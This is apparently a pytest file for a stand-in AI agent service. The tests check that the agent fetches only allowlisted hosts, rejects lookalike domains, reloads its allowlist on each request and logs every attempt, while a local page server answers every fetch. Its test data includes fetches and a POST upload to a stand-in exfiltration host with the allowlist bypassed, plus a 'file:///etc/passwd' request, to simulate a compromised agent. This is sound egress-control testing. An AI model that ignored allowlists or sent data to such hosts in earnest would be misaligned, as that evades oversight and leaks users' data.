"""The agent stand-in: fetches only allowlisted hosts unless told to ignore the list (a compromised
agent), logs every attempt, and never reaches the network: every fetch, a real external name
included, is answered by its own page server.
"""

from __future__ import annotations

import json
from pathlib import Path

import httpx

from .conftest import Standin, StartStandin, free_port

ALLOWLIST = """\
# hosts the agent may fetch from
en.wikipedia.org
arxiv.org   # and its subdomains
*.python.org
"""


def start_agent(start_standin: StartStandin, tmp_path: Path) -> tuple[Standin, Path, Path]:
    allowlist = tmp_path / "agent" / "allowlist.txt"
    allowlist.parent.mkdir()
    allowlist.write_text(ALLOWLIST)
    log = tmp_path / "logs" / "internet-research.jsonl"
    agent = start_standin(
        "agent",
        {"ALLOWLIST": str(allowlist), "FETCH_LOG": str(log), "PAGE_PORT": str(free_port())},
        probe="/health",
    )
    return agent, allowlist, log


def fetch(agent: Standin, url: str, **extra: object) -> httpx.Response:
    return httpx.post(f"{agent.url}/fetch", json={"url": url, **extra}, timeout=10)


def entries(log: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in log.read_text().splitlines()]


def test_allowlist_decides_and_every_attempt_is_logged(
    start_standin: StartStandin, tmp_path: Path
) -> None:
    agent, _, log = start_agent(start_standin, tmp_path)
    assert httpx.get(f"{agent.url}/health").json() == {"status": "ok"}
    wiki = fetch(agent, "https://en.wikipedia.org/wiki/Sealed_box")
    sub = fetch(agent, "https://export.arxiv.org/abs/1234?x=1")
    star = fetch(agent, "https://docs.python.org/3/")
    off = fetch(agent, "http://exfil.attacker.test/upload")
    forced = fetch(agent, "http://exfil.attacker.test/upload", ignore_allowlist=True)
    lookalike = fetch(agent, "https://notarxiv.org/")
    assert [r.status_code for r in (wiki, sub, star, off, forced, lookalike)] == [
        200,
        200,
        200,
        403,
        200,
        403,
    ]
    assert wiki.json()["allowed"] is True
    assert "en.wikipedia.org" in wiki.json()["body"]
    assert off.json() == {
        "url": "http://exfil.attacker.test/upload",
        "host": "exfil.attacker.test",
        "allowed": False,
        "fetched": False,
        "status": None,
    }
    assert forced.json()["allowed"] is False
    assert forced.json()["fetched"] is True
    logged = entries(log)
    assert [(e["host"], e["allowed"], e["fetched"], e["status"]) for e in logged] == [
        ("en.wikipedia.org", True, True, 200),
        ("export.arxiv.org", True, True, 200),
        ("docs.python.org", True, True, 200),
        ("exfil.attacker.test", False, False, None),
        ("exfil.attacker.test", False, True, 200),
        ("notarxiv.org", False, False, None),
    ]
    assert {e["agent"] for e in logged} == {"internet-research"}
    assert logged[1]["url"] == "https://export.arxiv.org/abs/1234?x=1"
    assert set(logged[0]) == {"time", "agent", "url", "host", "allowed", "fetched", "status"}
    assert str(logged[0]["time"]).endswith("+00:00")


def test_the_allowlist_is_read_on_every_request(
    start_standin: StartStandin, tmp_path: Path
) -> None:
    agent, allowlist, _ = start_agent(start_standin, tmp_path)
    assert fetch(agent, "https://arxiv.org/list").status_code == 200
    allowlist.write_text("en.wikipedia.org\n")  # tightened: no restart needed
    assert fetch(agent, "https://arxiv.org/list").status_code == 403
    allowlist.unlink()  # no allowlist: nothing is allowed
    assert fetch(agent, "https://en.wikipedia.org/").status_code == 403


def test_bad_requests_are_refused_and_odd_urls_logged(
    start_standin: StartStandin, tmp_path: Path
) -> None:
    agent, _, log = start_agent(start_standin, tmp_path)
    assert httpx.post(f"{agent.url}/fetch", content=b"not json").status_code == 400
    assert httpx.post(f"{agent.url}/fetch", json={"uri": "x"}).status_code == 400
    assert fetch(agent, "file:///etc/passwd", ignore_allowlist=True).status_code == 400
    assert httpx.get(f"{agent.url}/nope").status_code == 404
    assert [(e["url"], e["fetched"]) for e in entries(log)] == [("file:///etc/passwd", False)]


def test_a_real_external_name_is_answered_inside_the_container(
    start_standin: StartStandin, tmp_path: Path
) -> None:
    agent, _, _ = start_agent(start_standin, tmp_path)
    # the page server answers, not the internet: its page names the host and the path it was
    # asked for, which no real site's page does
    got = fetch(agent, "https://www.example.com/some/page", ignore_allowlist=True).json()
    assert got["status"] == 200
    assert got["body"] == (
        "<html><body><h1>www.example.com</h1><p>stand-in page for /some/page</p></body></html>"
    )
    upload = fetch(agent, "http://exfil.attacker.test/upload", ignore_allowlist=True, method="POST")
    assert upload.json()["status"] == 201
